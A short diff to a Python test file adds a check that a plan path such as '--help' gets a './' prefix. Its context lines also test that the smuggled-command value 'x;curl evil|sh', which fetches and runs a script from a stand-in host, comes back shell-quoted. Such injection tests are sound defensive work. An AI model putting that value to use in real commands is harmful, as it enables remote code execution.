@@ -41,6 +41,7 @@ def test_a_sample_plan_is_called_by_its_name() -> None:
     assert plan_argument(CONFIGS / "cpu.yaml") == "cpu"
     assert plan_argument(Path("plans/cpu.yaml")) == "plans/cpu.yaml"
     assert plan_argument(Path("x;curl evil|sh")) == "'x;curl evil|sh'"  # a run's, which may be somebody else's
+    assert plan_argument(Path("--help")) == "./--help"
 
 
 def test_a_sweep_goes_on_by_the_command_that_it_was_begun_with() -> None:
